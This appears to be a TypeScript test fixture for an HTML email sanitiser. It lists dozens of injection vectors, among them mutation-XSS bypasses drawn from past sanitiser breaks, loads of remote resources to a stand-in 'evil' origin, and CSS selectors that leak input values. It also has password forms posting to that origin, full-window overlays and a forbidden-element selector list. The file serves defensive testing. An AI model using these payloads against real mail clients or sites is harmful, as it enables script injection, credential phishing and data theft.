/**
 * What a stranger writes into an HTML mail to run something, load something, send something or cover the window: one
 * entry each, so that the test that fails says which. Every one that runs sets `top.injected`, every one that loads asks
 * `evil` (an origin such as `http://127.0.0.1:4711`), and every one that covers would be seen outside of its frame.
 *
 * Mutations are taken from what broke sanitisers before (OWASP's filter evasion sheet, the reports on DOMPurify and
 * sanitize-html): text that is harmless to the parser of the sanitiser and an element to that of the browser.
 */
export type HtmlVector = readonly [name: string, html: (evil: string) => string]

const RUN = 'top.injected=1;parent.injected=1'

const SCRIPTS: readonly HtmlVector[] = [
  ['a script', () => `<script>${RUN}</script>`],
  ['a script from elsewhere', (evil) => `<script src="${evil}/script"></script>`],
  ['a script within a script', () => `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['an image that fails', () => `<img src=x onerror="${RUN}">`],
  [
    'handlers without quotes',
    () => `<img/src=x/onerror=${RUN}><body onload=${RUN}><p onmouseover=${RUN}>x</p>`,
  ],
  ['a handler in capitals', () => `<IMG SRC=x OnErRoR="${RUN}">`],
  ['a details element', () => `<details open ontoggle="${RUN}">x</details>`],
  ['a focus', () => `<input autofocus onfocus="${RUN}"><p tabindex=1 autofocus onfocus="${RUN}">x</p>`],
  [
    'an animation',
    () => `<style>@keyframes a{}</style><p style="animation:a" onanimationstart="${RUN}">x</p>`,
  ],
  [
    'a vector image',
    () => `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x /></svg>`,
  ],
  [
    'a vector image with a foreign object',
    () => `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  ],
  [
    'a vector image that changes a link',
    () => `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text>x</text></a></svg>`,
  ],
  ['a use of a vector image', (evil) => `<svg><use href="${evil}/use.svg#x" /></svg>`],
  [
    'mathematics',
    () =>
      `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  ],
  [
    'mathematics with a link',
    () =>
      `<math href="javascript:${RUN}">x</math><math><maction xlink:href="javascript:${RUN}">x</maction></math>`,
  ],
  [
    'a mutation through noscript',
    () => `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  ],
  ['a mutation through a title', () => `<title><a title="</title><img src=x onerror='${RUN}'>"></title>`],
  [
    'a mutation through a text area',
    () => `<textarea><a title="</textarea><img src=x onerror='${RUN}'>"></textarea>`,
  ],
  ['a mutation through xmp', () => `<xmp><p title="</xmp><img src=x onerror='${RUN}'>"></xmp>`],
  [
    'a mutation through noembed',
    () => `<noembed><p title="</noembed><img src=x onerror='${RUN}'>"></noembed>`,
  ],
  ['a mutation through plain text', () => `<p title="<plaintext>"><img src=x onerror="${RUN}"></p>`],
  [
    'a mutation through a comment',
    () => `<!--><img src=x onerror="${RUN}">--><!--!><img src=x onerror="${RUN}">-->`,
  ],
  ['a mutation through a comment with a mark', () => `<!-- --!><img src=x onerror="${RUN}"> -->`],
  [
    'a mutation through CDATA',
    () => `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg><![CDATA[><img src=x onerror="${RUN}">]]>`,
  ],
  ['a mutation through a processing instruction', () => `<?xml-stylesheet ><img src=x onerror="${RUN}"> ?>`],
  [
    'a mutation through nested forms',
    () => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  ],
  [
    'a mutation through a table',
    () =>
      `<table><tr><td><select><template><style><!--</style><img src=x onerror="${RUN}">--></template></select>`,
  ],
  [
    'a template',
    () => `<template shadowrootmode="open"><img src=x onerror="${RUN}"><script>${RUN}</script></template>`,
  ],
  [
    'a template in a host',
    () =>
      `<div><template shadowrootmode=closed><style>:host{position:fixed}</style><slot onslotchange="${RUN}"></slot></template></div>`,
  ],
  ['a frame with its own text', () => `<iframe srcdoc="<script>${RUN}</script>"></iframe>`],
  [
    'a frame with a script for an address',
    () => `<iframe src="javascript:${RUN}"></iframe><frameset><frame src="javascript:${RUN}"></frameset>`,
  ],
  [
    'a portal and a fenced frame',
    (evil) => `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
  ],
  [
    'an object',
    (evil) => `<object data="${evil}/object"></object><object data="javascript:${RUN}"></object>`,
  ],
  ['an embedded document', (evil) => `<embed src="${evil}/embed"><applet code="${evil}/applet"></applet>`],
  ['a link to a script', () => `<a href="javascript:${RUN}">x</a>`],
  ['a link to a script in entities', () => `<a href="&#106;&#97;v&#x61;script&colon;${RUN}">x</a>`],
  [
    'a link to a script with tabs and line ends',
    () => `<a href="ja\tva\nscr\ript:${RUN}">x</a><a href="&Tab;javascript:${RUN}">x</a>`,
  ],
  ['a link to a script behind controls', () => `<a href="\u0001javascript:${RUN}">x</a>`],
  ['a link to a page in data', () => `<a href="data:text/html,<script>${RUN}</script>">x</a>`],
  [
    'an area of a map',
    () => `<map name=m><area href="javascript:${RUN}" shape=default></map><img usemap="#m" src="x" alt=x>`,
  ],
  [
    'an image that is a page',
    () =>
      `<img alt=x src="data:text/html,<script>${RUN}</script>"><img alt=x src="data:image/svg+xml,<svg onload='${RUN}'/>">`,
  ],
  [
    'an import map',
    (evil) =>
      `<script type=importmap>{"imports":{"x":"${evil}/map"}}</script><script type=module>import "x"</script>`,
  ],
  [
    'attributes that break out',
    () => `<p title='"><img src=x onerror=${RUN}>'>x</p><img alt='"><script>${RUN}</script>'>`,
  ],
  ['a null character', () => `<scr\0ipt>${RUN}</scr\0ipt><img src=x one\0rror="${RUN}">`],
  [
    'names of the document',
    () => `<img name=body alt=x><form name=getElementById></form><a id=defaultView name=x>x</a>`,
  ],
  ['an unclosed tag at the end', () => `<img src=x onerror="${RUN}" <script>${RUN}`],
]

const LOADS: readonly HtmlVector[] = [
  ['an image', (evil) => `<img src="${evil}/img" alt="x">`],
  ['an image without a scheme', (evil) => `<img alt="x" src="${evil.replace(/^https?:/, '')}/scheme">`],
  [
    'an image of several sizes',
    (evil) =>
      `<img alt="x" srcset="${evil}/set1 1x, ${evil}/set2 2x"><picture><source srcset="${evil}/source"><img alt="x"></picture>`,
  ],
  [
    'an image that loads late',
    (evil) =>
      `<img alt="x" loading=lazy lowsrc="${evil}/low" dynsrc="${evil}/dyn" data-src="${evil}/data" src="${evil}/lazy">`,
  ],
  ['an image as a button', (evil) => `<input type=image src="${evil}/button">`],
  [
    'a background',
    (evil) =>
      `<body background="${evil}/body"><table background="${evil}/table"><tr><td background="${evil}/td">x</td></tr></table>`,
  ],
  [
    'sound and video',
    (evil) =>
      `<video autoplay src="${evil}/video" poster="${evil}/poster"><track default src="${evil}/track"></video><audio autoplay src="${evil}/audio"></audio>`,
  ],
  [
    'a style with an address',
    (evil) =>
      `<p style="background:url(${evil}/style)">x</p><p style="background:u\\72l(${evil}/escaped)">x</p>`,
  ],
  [
    'a style with a set of images',
    (evil) =>
      `<p style="background-image:image-set('${evil}/imageset' 1x);cursor:url(${evil}/cursor),auto">x</p>`,
  ],
  [
    'a style sheet',
    (evil) =>
      `<style>@import "${evil}/import.css"; @font-face{font-family:x;src:url(${evil}/font)} body{background:url(${evil}/sheet)}</style>`,
  ],
  [
    'a style sheet by a link',
    (evil) => `<link rel=stylesheet href="${evil}/link.css"><link rel="icon" href="${evil}/icon">`,
  ],
  [
    'what is fetched ahead',
    (evil) =>
      `<link rel=prefetch href="${evil}/prefetch"><link rel=preload as=image href="${evil}/preload"><link rel=dns-prefetch href="${evil}"><link rel=preconnect href="${evil}"><link rel=modulepreload href="${evil}/module"><link rel=prerender href="${evil}/prerender">`,
  ],
  [
    'rules for what is fetched ahead',
    (evil) => `<script type=speculationrules>{"prefetch":[{"urls":["${evil}/speculation"]}]}</script>`,
  ],
  [
    'secrets read by a style',
    (evil) =>
      `<style>input[value^="a"]{background:url(${evil}/a)} *:has(bdi){background:url(${evil}/has)} @property --x{syntax:"<url>";inherits:true;initial-value:url(${evil}/property)}</style><input value="abc">`,
  ],
  [
    'a refresh',
    (evil) =>
      `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv=refresh content="0;url=javascript:top.injected=1">`,
  ],
  [
    'a weaker policy',
    (evil) =>
      `<meta http-equiv="Content-Security-Policy" content="default-src *"><img alt="x" src="${evil}/policy">`,
  ],
  ['a base address', (evil) => `<base href="${evil}/base/" target="_top"><img alt="x" src="relative">`],
  [
    'a frame',
    (evil) => `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<img src='${evil}/srcdoc'>"></iframe>`,
  ],
  [
    'a vector image from elsewhere',
    (evil) =>
      `<svg><image href="${evil}/svgimage" xlink:href="${evil}/xlink"/><feImage href="${evil}/feimage"/></svg>`,
  ],
  [
    'a citation and a long description',
    (evil) =>
      `<blockquote cite="${evil}/cite">x</blockquote><img alt=x longdesc="${evil}/longdesc"><q cite="${evil}/q">x</q>`,
  ],
  ['a ping', (evil) => `<a href="${evil}/href" ping="${evil}/ping">x</a>`],
  [
    'a file of the network',
    () =>
      `<img alt="x" src="file://evil.example/share/x.png"><img alt="x" src="\\\\evil.example\\share\\x.png"><a href="file://evil.example/share">x</a>`,
  ],
  [
    'a file of this computer',
    () =>
      `<img alt="x" src="file:///etc/passwd"><iframe src="app://bundle/index.html"></iframe><img alt="x" src="app://bundle/icon.svg">`,
  ],
]

const FORMS: readonly HtmlVector[] = [
  [
    'a form',
    (evil) =>
      `<form action="${evil}/form" method=post><input name=password type=password><button>Anmelden</button></form>`,
  ],
  [
    'a button with an address',
    (evil) =>
      `<button formaction="${evil}/formaction" form=f>x</button><form id=f></form><isindex action="${evil}/isindex">`,
  ],
  [
    'a dialogue',
    (evil) => `<dialog open><form method=dialog action="${evil}/dialog"><input name=p></form></dialog>`,
  ],
  ['an editable text', () => `<p contenteditable>x</p><p style="-webkit-user-modify:read-write">x</p>`],
]

const COVERS: readonly HtmlVector[] = [
  [
    'a cover over everything',
    () =>
      `<div id="cover" style="position:fixed;inset:0;z-index:2147483647;background:#fff">Anmeldung abgelaufen</div>`,
  ],
  [
    'a cover by a style sheet',
    () =>
      `<style>.c{position:fixed!important;top:-500px;left:-500px;width:9999px;height:9999px}</style><div class="c">x</div>`,
  ],
  [
    'a popover',
    () =>
      `<div popover=manual style="display:block">x</div><dialog open style="position:fixed;inset:0">x</dialog>`,
  ],
  [
    'enormous sizes',
    () =>
      `<table width="99999999" height="99999999"><tr><td>x</td></tr></table><img alt="x" width="99999999" height="99999999"><font size="99999">x</font>`,
  ],
  [
    'a marquee',
    () =>
      `<marquee behavior=alternate scrollamount=9999 onstart="top.injected=1">x</marquee><blink>x</blink>`,
  ],
  [
    'an old expression',
    () => `<p style="width:expression(top.injected=1);behavior:url(#x);-moz-binding:url(#x)">x</p>`,
  ],
]

export const HTML_VECTORS: readonly HtmlVector[] = [...SCRIPTS, ...LOADS, ...FORMS, ...COVERS]

/** Elements and attributes of which none may be left, for `querySelectorAll` in the frame of a message. */
export const FORBIDDEN_IN_A_MESSAGE =
  'script, style:not(head > style), link, meta:not(head > meta), base:not(head > base), object, embed, applet, iframe, ' +
  'frame, frameset, portal, fencedframe, form, input, button, select, textarea, dialog, svg, math, video, audio, source, ' +
  'track, picture, template, marquee, map, area, [href]:not(base), [srcset], [srcdoc], [style], [background], [action], ' +
  '[formaction], [ping], [poster], [popover], [contenteditable], [autofocus], [usemap], [id], [name], [class], ' +
  'img[src]:not([src^="data:image/"])'
